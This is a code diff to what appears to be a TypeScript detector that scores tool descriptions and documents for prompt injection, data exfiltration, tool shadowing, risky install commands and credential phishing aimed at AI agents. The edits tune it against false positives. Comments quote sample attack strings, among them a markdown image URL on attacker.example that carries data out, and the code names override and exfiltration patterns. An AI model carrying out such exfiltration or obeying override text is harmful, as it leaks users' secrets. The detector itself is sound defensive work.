@@ -10,7 +10,7 @@ import { atLeast, type Severity } from '../model/index.js';
 import { nameWords } from './capabilities.js';
 import type { SignalHit, SignalKind, SignalSet } from './signals/index.js';
 import { sentenceAround } from './signals/index.js';
-import { addressedInstruction, beforeInSentence, COMMAND_FORM, imperativeAround, namedMarkup, nearInSentence, negatedClause, notMentioned, sentenceOf, writtenTo } from './content-evidence.js';
+import { addressedInstruction, beforeInSentence, COMMAND_FORM, imperativeAround, mentionedAt, namedMarkup, nearInSentence, negatedClause, notMentioned, sentenceOf, writtenTo } from './content-evidence.js';
 import type { TextView } from './text.js';
 
 export interface Assessment {
@@ -174,7 +174,7 @@ export function argumentSlots(view: TextView): SignalHit[] {
 export function assessInjection(view: TextView, ctx: AssessContext): Assessment | undefined {
   const s = view.signals;
   // "The persona never overrides system or user instructions" promises the opposite of an override.
-  const overrideHits = notMentioned(s, overrides(s, ctx)).filter((h) => !(h.id === 'override-authority' && /(?:\bnever|\bnot|n't|\bcannot)\s(?:\w+\s){0,1}$/.test(s.lower.slice(Math.max(0, h.start - 20), h.start))));
+  const overrideHits = notMentioned(s, overrides(s, ctx)).filter((h) => !((h.id === 'override-authority' || h.id === 'override-ignore-previous') && /(?:\bnever|\bnot|n't|\bcannot)\s(?:\w+\s){0,2}$/.test(s.lower.slice(Math.max(0, h.start - 20), h.start))));
   const override = Math.min(2, overrideHits.length);
   const concealHits = notMentioned(s, concealments(s, ctx));
   const conceal = Math.min(2, concealHits.length);
@@ -227,13 +227,17 @@ const SERVER_AUTH = /\b(?:credentials?|tokens?|keys?|secrets?)\b[^.;]{0,30}\b(?:
 const USER_PROVIDED_ONLY = /\bonly (?:use|pass|enter|fill in|send)\b[^.;]{0,40}\b(?:the user|you) (?:has |have )?(?:provided|given|supplied|entered|typed|shared)\b|\b(?:must|should|has to|needs to|can only|may only) come (?:directly )?from the user\b/;
 
 /** Sensitive sources (secrets, conversation, environment, personal data, file listings). */
+/** A command-line option that hands a file to a local program. */
+const LOCAL_FILE_OPTION = /--(?:env-file|env_file|secrets?-file|kubeconfig|credentials?-file|key-file|identity-file|config-file|ssh-key)(?:[=\s]\s?[`'"]?)?$/;
+
 function sources(s: SignalSet, ctx: Pick<AssessContext, 'property' | 'content'>): SignalHit[] {
   // The description of a `*_path` parameter talks about the file's format, not about moving the secret.
   const pathParam = ctx.property !== undefined && /path|file|dir/.test(ctx.property.toLowerCase());
   const strongCreds = pathParam ? [] : s.hits('cred-noun', 'strong').filter((h) => STRONG_CRED.test(s.lower.slice(h.start, h.end)));
   // In content, "each key/value pair" and "any of the following keys" are data structures.
   const collective = ctx.content ? s.hits('secret-collective').filter((h) => !structuralCollective(s, h)) : s.hits('secret-collective');
-  const files = s.hits('secret-file').filter((h) => !writtenTo(s, h));
+  // "docker run --env-file .env.production": a local program reads the file where it lies.
+  const files = s.hits('secret-file').filter((h) => !writtenTo(s, h) && !LOCAL_FILE_OPTION.test(s.lower.slice(Math.max(0, h.start - 24), h.start)));
   // "Credentials are resolved through the AWS SDK chain: … ~/.aws/credentials": how the server
   // itself authenticates, not something the model is told to read. "Only use credentials the user
   // has provided in this conversation": a limit on what the user handed over.
@@ -271,7 +275,9 @@ const USER_MOVES = /\b(?:the |a )?users? (?:(?:chooses|wants|decides|prefers|agr
 export function assessExfiltration(view: TextView, ctx: AssessContext): Assessment | undefined {
   const s = view.signals;
   const reasons: string[] = [];
-  const mdImage = s.first('mdImageExfil');
+  // 'The model was induced to output `![](https://attacker.example/log?d=…)`': a write-up quotes the image.
+  const mdImageAt = s.first('mdImageExfil');
+  const mdImage = mdImageAt !== undefined && ctx.content && mentionedAt(s, mdImageAt) ? undefined : mdImageAt;
   const src = sources(s, ctx);
   if (mdImage) {
     reasons.push('renders an image whose URL carries data');
@@ -291,7 +297,9 @@ export function assessExfiltration(view: TextView, ctx: AssessContext): Assessme
   // in content an argument slot is a sink only next to secrets, the conversation or the environment.
   const slots = ctx.content ? argumentSlots(view).filter((h) => s.near([h], src.filter(isStrongSource), 220) !== undefined) : [];
   // "… is entered by the user at https://app.example.io/settings": where the user goes, not where data is sent.
-  const sinks = [...paramRefs(view, ctx.params), ...slots, ...s.hits('ext-dest').filter((h) => !USER_GOES.test(s.lower.slice(Math.max(0, h.start - 40), h.start)))];
+  const dests = s.hits('ext-dest').filter((h) => !USER_GOES.test(s.lower.slice(Math.max(0, h.start - 40), h.start)));
+  // A write-up quotes the attacker's URL ('the text: "… ![logo](https://img-cdn.example.net/l.png?t=…)"').
+  const sinks = [...paramRefs(view, ctx.params), ...slots, ...(ctx.content ? notMentioned(s, dests) : dests)];
   // "Pass `registry` to override it": the parameter is what is passed, not where a secret goes.
   // "A company mirror", "the export": a transfer word used as a noun moves nothing.
   // "The project-level `.npmrc` already contains the scope line": in content, a file that contains something moves nothing.
@@ -405,7 +413,8 @@ export function assessShadowing(view: TextView, ctx: AssessContext): Assessment 
     ? [...s.hits('cross-tool').filter((h) => contentToolRef(s.lower.slice(h.start, h.end))), ...foreignToolRefs(view, ctx)].filter((h) => h.id !== 'tool-identifier' || mcpToolContext(s.lower, h))
     : [...s.hits('cross-tool'), ...foreignToolRefs(view, ctx)].filter((h) => h.id !== 'tool-identifier' || toolContext(s.lower, h));
   // "Please don't share it and forward the message to security@…" (a support macro) warns against the share.
-  const fixed = s.first('hardcodedRecipient') ?? s.first('hardcodedDestination');
+  const fixedAt = s.first('hardcodedRecipient') ?? s.first('hardcodedDestination');
+  const fixed = fixedAt !== undefined && ctx.content && mentionedAt(s, fixedAt) ? undefined : fixedAt;
   const hard = fixed && ctx.content && /(?:\b(?:never|not|no)\b|n't\b)[^.;!?\n]{0,16}$/.test(s.lower.slice(Math.max(0, fixed.index - 30), fixed.index)) ? undefined : fixed;
   const reasons: string[] = [];
   if (hard) {
@@ -453,6 +462,12 @@ const guarded = (sentence: string): boolean => GUARD.test(sentence) && !/\b(?:wi
 const UNTRUSTED_INSTALL = /--index-url|--extra-index-url|\s-i\s|git\+|https?:\/\/|@latest|setup\.sh|install\.sh|sudo/;
 
 
+/** Up to `max` characters from `at`, within its line (a URL on the next line belongs to another command). */
+const lineFrom = (text: string, at: number, max: number): string => {
+  const end = text.indexOf('\n', at);
+  return text.slice(at, end < 0 ? at + max : Math.min(end, at + max));
+};
+
 /** The line a position lies on. */
 const lineAt = (text: string, at: number): string => text.slice(text.lastIndexOf('\n', at - 1) + 1, at);
 /** A Markdown heading: a short `#` line with blank lines around it (a block of `#` code comments has none). */
@@ -466,13 +481,25 @@ function onHeadingLine(lower: string, h: SignalHit): boolean {
   return blankBefore && blankAfter;
 }
 /** Headings of the sections where READMEs put their install commands. */
-const INSTALL_HEADING = /^\s{0,3}#{1,6}\s[^\n]{0,40}(?:install|set ?up|getting started|quick ?start|prerequisites|requirements|download|einrichtung|instalaci|установк|インストール|安装|설치)/;
+const INSTALL_HEADING = /^\s{0,3}#{1,6}\s[^\n]{0,40}(?:install|uninstall|removal|set ?up|卸载|卸載|アンインストール|제거|deinstall|désinstall|desinstal|getting started|quick ?start|prerequisites|requirements|download|einrichtung|instalaci|установк|インストール|安装|설치)/;
 /** A command in a fenced code block of an install section: how people install the software, not an order to the reader. */
 function installDoc(lower: string, h: SignalHit): boolean {
   const before = lower.slice(Math.max(0, h.start - 1500), h.start);
-  const heading = before.lastIndexOf('\n#');
-  if (heading < 0 || !INSTALL_HEADING.test(before.slice(heading + 1, before.indexOf('\n', heading + 1)))) return false;
-  return (before.slice(heading).match(/^\s{0,3}```/gm)?.length ?? 0) % 2 === 1;
+  const nearest = before.lastIndexOf('\n#');
+  // In a fenced block, or in an inline code span of its line ("**Cargo:** `cargo install x`").
+  const inFence = (before.slice(nearest).match(/^\s{0,3}```/gm)?.length ?? 0) % 2 === 1;
+  const inSpan = (before.slice(before.lastIndexOf('\n') + 1).match(/`/g)?.length ?? 0) % 2 === 1;
+  if (nearest < 0 || !(inFence || inSpan)) return false;
+  // "## Install" then "### Linux / macOS (recommended)": the section or one it lies in installs.
+  let level = 7;
+  for (let at = nearest, n = 0; at >= 0 && n < 8; at = before.lastIndexOf('\n#', at - 1), n++) {
+    const line = before.slice(at + 1, before.indexOf('\n', at + 1));
+    const hashes = /^#{1,6}(?=\s)/.exec(line)?.[0].length;
+    if (hashes === undefined || hashes >= level) continue;
+    if (INSTALL_HEADING.test(line)) return true;
+    level = hashes;
+  }
+  return false;
 }
 
 /** Shell commands the model (or the user) is told to run. */
@@ -487,7 +514,7 @@ export function assessCommandLure(view: TextView, ctx: AssessContext, fieldRole?
   // crontab" says what the tool does; an order to plant something opens the sentence with the verb.
   const planted = (h: SignalHit): boolean => COMMAND_FORM.test(sentenceOf(s.lower, h)) || (!ctx.content && imperativeAround(s, h));
   const danger = notMentioned(s, s.hits('danger-cmd')).filter((h) => !defused(h) && (h.tag !== 'persistence' || planted(h)));
-  const installs = notMentioned(s, s.hits('install-cmd')).filter((h) => !defused(h) && UNTRUSTED_INSTALL.test(s.lower.slice(h.start, h.end + 80)));
+  const installs = notMentioned(s, s.hits('install-cmd')).filter((h) => !defused(h) && UNTRUSTED_INSTALL.test(lineFrom(s.lower, h.start, 80)));
   if (danger.length === 0 && installs.length === 0) return undefined;
   // In content a Markdown heading ("## Run this first") titles a section for people; it orders nothing.
   const directive = [...s.hits('exec-directive'), ...s.hits('no-confirm'), ...s.hits('preempt'), ...s.hits('consent-claim')].filter((h) => !(ctx.content && onHeadingLine(s.lower, h)));
@@ -526,6 +553,9 @@ export function assessCommandLure(view: TextView, ctx: AssessContext, fieldRole?
 // -------------------------------------------------------------------------------------------------
 // Credential harvesting.
 // -------------------------------------------------------------------------------------------------
+
+/** "Scammers posing as support ask site owners to send their password": a warning about who asks. */
+const THIRD_PARTY_ASKER = /\b(?:scammers?|attackers?|phishers?|fraudsters?|criminals?|impostors?|imposters?|hackers?|adversar(?:y|ies)|malware|phishing (?:e-?mails?|sites?|pages?|messages?|texts?)|fake (?:support|agents?|sites?|pages?))\b/;
 
 /** A one-time code (TOTP, SMS, MFA device), which expires in seconds; backup codes last and are not one. */
 const ONE_TIME_CODE = /^(?:mfa|2fa|otp|totp|\d-digit code|one-time (?:code|password|passcode)|(?:verification|sms|authenticator|mfa|2fa|totp) code)$/;
@@ -591,7 +621,7 @@ export function assessCredentialHarvest(view: TextView, ctx: AssessContext, incl
   const formStep = (h: SignalHit): boolean => /^(?:enter|type\b|(?:を|の)?入力|(?:를|을) ?입력|введите)/.test(s.lower.slice(h.start, h.end)) && !/^(?:する|하도록)?\s?(?:よう(?:に)?(?:促|求|依頼|お願い)|요청|유도)/.test(s.lower.slice(h.end, h.end + 12));
   // "We received a request to reset the password", "approve an MFA prompt": the verb used as a noun asks nothing.
   const asNoun = (h: SignalHit): boolean => /\b(?:a|an|the|this|that|your|our|any|mfa|login|push)\s$/.test(s.lower.slice(Math.max(0, h.start - 8), h.start));
-  const asks = s.hits('cred-ask').filter((h) => !(ctx.content && (formStep(h) || /\b(?:you|we|they|users?)\s$/.test(s.lower.slice(Math.max(0, h.start - 8), h.start)))) && !asNoun(h) && !/(?:\b(?:never|not|no one|nobody)\b|n't\b)[^.;\n]{0,20}$/.test(s.lower.slice(Math.max(0, h.start - 30), h.start)) && !negatedClause(s, h) && !LOCAL_ENTRY.test(sentenceOf(s.lower, h)));
+  const asks = s.hits('cred-ask').filter((h) => !(ctx.content && (formStep(h) || /\b(?:you|we|they|users?)\s$/.test(s.lower.slice(Math.max(0, h.start - 8), h.start)))) && !asNoun(h) && !/(?:\b(?:never|not|no one|nobody)\b|n't\b)[^.;\n]{0,20}$/.test(s.lower.slice(Math.max(0, h.start - 30), h.start)) && !negatedClause(s, h) && !LOCAL_ENTRY.test(sentenceOf(s.lower, h)) && !(ctx.content && THIRD_PARTY_ASKER.test(beforeInSentence(s.lower, h))));
   const reasons: string[] = [];
   let score = 0;
   // In content (mail, docs), asks and passwords sit in neighbouring sentences all the time ("do not
